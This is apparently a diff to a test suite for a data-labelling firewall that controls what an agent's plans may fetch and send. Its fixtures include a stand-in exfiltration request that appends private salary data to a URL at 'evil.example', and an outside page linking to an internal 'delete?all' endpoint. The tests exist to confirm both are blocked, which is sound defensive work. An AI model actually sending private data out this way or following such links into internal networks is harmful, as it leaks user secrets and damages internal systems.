@@ -55,8 +55,8 @@ def test_a_page_is_from_its_host_and_all_that_redirected_to_it(firewall, site):
 
 def test_a_page_of_the_own_network_is_the_users_alone(firewall, site):
     site.answers["/"] = plain(b"salaries")
-    label = firewall(PRIVATE).exec("answer(fetch_page('http://in.example:8080/').text)").answer.label
-    assert (label.sources, label.readers) == ({"tool:fetch_page", "web:in.example"}, {"me"})
+    label = firewall(PRIVATE).exec("answer(fetch_inner_page('http://in.example:8080/').text)").answer.label
+    assert (label.sources, label.readers) == ({"tool:fetch_inner_page", "web:in.example"}, {"me"})
 
 
 def test_private_data_does_not_leave_in_a_url_and_a_link_may_be_followed(firewall, wire, site):
@@ -81,10 +81,22 @@ def test_the_links_of_a_private_page_do_not_leave_its_host_by_themselves(firewal
     """A link of an inner page may hold what only the user may read; the outside would be told."""
     site.answers["/"] = plain(b"<a href='http://evil.example/?salary=5'>x</a>")
     found = firewall(PRIVATE).exec(
-        "page = fetch_page('http://in.example:8080/')\nfetch_page('http://evil.example/?' + page.links[0].url)"
+        "page = fetch_inner_page('http://in.example:8080/')\nfetch_page('http://evil.example/?' + page.links[0].url)"
     )
     assert found.outcome == "denied"
     assert [host for host, _ in site.seen] == ["in.example:8080"]
+
+
+def test_a_link_of_a_strangers_page_does_not_lead_into_the_own_network(firewall, site):
+    """The exceptions are for URLs of the request: a link may be followed on the internet, and there only."""
+    site.answers |= {"/": plain(b"<a href='http://in.example:8080/delete?all'>x</a>"), "/delete": plain(b"deleted")}
+    run = firewall(PRIVATE).exec
+    page = "url = fetch_page('http://a.example/').links[0].url\n"
+    assert run(page + "fetch_page(url)").outcome == "failed"
+    assert run(page + "fetch_inner_page(url)").outcome == "denied"
+    assert run("fetch_inner_page('http://a.example/')").outcome == "failed"
+    assert {host for host, _ in site.seen} == {"a.example"}
+    assert run("fetch_inner_page('http://in.example:8080/delete').text").outcome == "completed"
 
 
 def test_errors_hold_no_url_and_no_text_of_the_server(firewall, site):
@@ -186,7 +198,7 @@ def test_exec_with_a_configuration_and_a_server_on_loopback(tmp_path, site):
         f'mode = "strict"\n[web]\nallow = []\nrobots = false\nallow_private = ["{host}:{port}"]\n[files]\n'
     )
     (tmp_path / "plan").write_text(
-        f"page = fetch_page('http://{host}:{port}/page')\nwrite_file('page.txt', page.text)\n"
+        f"page = fetch_inner_page('http://{host}:{port}/page')\nwrite_file('page.txt', page.text)\n"
         "answer([page.title, page.hidden, read_file('page.txt')])"
     )
     environ = {"PATH": os.environ["PATH"], "PYTHONPATH": str(Path(__file__).parents[2] / "src")}
@@ -199,5 +211,5 @@ def test_exec_with_a_configuration_and_a_server_on_loopback(tmp_path, site):
     found = json.loads(done.stdout)
     assert (done.returncode, found["outcome"], done.stderr) == (0, "completed", "")
     assert found["answer"]["value"] == ["Hello", 1, "shown"]
-    assert set(found["answer"]["label"]["sources"]) >= {f"web:{host}", "tool:fetch_page", "tool:read_file"}
+    assert set(found["answer"]["label"]["sources"]) >= {f"web:{host}", "tool:fetch_inner_page", "tool:read_file"}
     assert (tmp_path / "files" / "page.txt").read_text() == "shown"
